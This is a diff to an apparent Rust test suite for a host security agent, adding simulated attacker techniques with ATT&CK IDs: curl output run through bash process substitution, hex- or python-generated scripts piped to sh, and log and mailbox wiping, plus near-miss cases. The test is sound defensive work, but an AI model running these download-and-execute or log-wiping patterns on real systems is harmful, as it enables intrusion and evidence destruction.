@@ -27,7 +27,7 @@ const PRELUDE: &str =
     "made=''; need() { [ -d \"$1\" ] || { mkdir -p \"$1\" && made=\"$1 $made\"; }; }\n";
 const CLEANUP: &str = "\nfor d in $made; do rmdir \"$d\" 2>/dev/null; done; true\n";
 
-fn cases(u: &str) -> Vec<Case> {
+fn cases(u: &str, port: u16) -> Vec<Case> {
     let case = |what, body: String, rule| Case {
         what,
         script: format!("{PRELUDE}{body}{CLEANUP}"),
@@ -116,10 +116,44 @@ fn cases(u: &str) -> Vec<Case> {
             "systemctl stop auditd 2>/dev/null; true".into(),
             Some("dd4cf831-ec51-427f-b473-7dc81525dac1"),
         ),
+        case(
+            "download run through a process substitution (T1059.004, T1105)",
+            format!("bash -c 'bash <(curl -s http://127.0.0.1:{port}/x.sh)'"),
+            Some("rg-drop-exec"),
+        ),
+        case(
+            "hex-decoded script piped into a shell (T1140)",
+            "echo 6964 | xxd -r -p | sh >/dev/null".into(),
+            Some("rg-drop-exec"),
+        ),
+        case(
+            "script printed by python piped into a shell (T1059.006)",
+            "/usr/bin/python3 -c \"print('id')\" | sh >/dev/null".into(),
+            Some("rg-drop-exec"),
+        ),
+        case(
+            "log file deleted (T1070.002)",
+            format!("rm /var/log/{u}-old.log"),
+            Some("rg-log-wipe"),
+        ),
+        case(
+            "mailbox overwritten (T1070.002)",
+            format!("echo 0 > /var/spool/mail/{u}"),
+            Some("rg-log-wipe"),
+        ),
         // Near misses.
         case(
-            "own script written and run in one session",
+            "own script written and run in one session (issue 19: low)",
             format!("f=/tmp/{u}-own.sh; echo 'echo hi' > $f; sh $f; rm $f"),
+            None,
+        ),
+        case(
+            "a script unpacked from an archive in /tmp and run (./configure)",
+            format!(
+                "s=/var/lib/{u}-src; mkdir -p $s; printf '#!/bin/sh\\necho configured\\n' > \
+                 $s/configure; chmod +x $s/configure; tar -C /var/lib -cf $s.tar {u}-src; \
+                 tar -C /tmp -xf $s.tar; /tmp/{u}-src/configure; rm -rf $s $s.tar /tmp/{u}-src"
+            ),
             None,
         ),
         case(
@@ -180,10 +214,24 @@ fn simulated_techniques_alert_and_near_misses_stay_quiet() {
         let src = concat!(env!("CARGO_MANIFEST_DIR"), "/rules/").to_string() + f;
         fs::copy(&src, rules.path().join(f)).unwrap();
     }
-    let agent = Agent::start(&format!("[rules]\ndir = \"{}\"\n", rules.path().display()));
     let u = unique("corpus");
+    // What the deletion and the overwrite destroy, made before the agent
+    // starts (not by a case's shell).
+    let old_log = format!("/var/log/{u}-old.log");
+    let mailbox = format!("/var/mail/{u}");
+    fs::write(&old_log, "old\n").unwrap();
+    fs::write(&mailbox, "From x\n").unwrap();
+    let script = b"echo hi\n";
+    let mut http = format!(
+        "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n",
+        script.len()
+    )
+    .into_bytes();
+    http.extend_from_slice(script);
+    let (port, serve) = common::scenario::serve_once(http);
+    let agent = Agent::start(&format!("[rules]\ndir = \"{}\"\n", rules.path().display()));
     let mut ran = Vec::new();
-    for c in cases(&u) {
+    for c in cases(&u, port) {
         let mut child = std::process::Command::new("/bin/sh")
             .args(["-c", &c.script])
             .spawn()
@@ -200,6 +248,9 @@ fn simulated_techniques_alert_and_near_misses_stay_quiet() {
     // Scenario alerts may wait for a hash ([hash] alert_wait_ms).
     std::thread::sleep(std::time::Duration::from_millis(500));
     let (status, records, stderr) = agent.stop();
+    serve.join().unwrap();
+    let _ = fs::remove_file(&mailbox);
+    let _ = fs::remove_file(&old_log);
     assert!(status.success(), "{stderr}");
     let loud = |s: &str| matches!(s, "medium" | "high" | "critical");
     let mut failures = Vec::new();
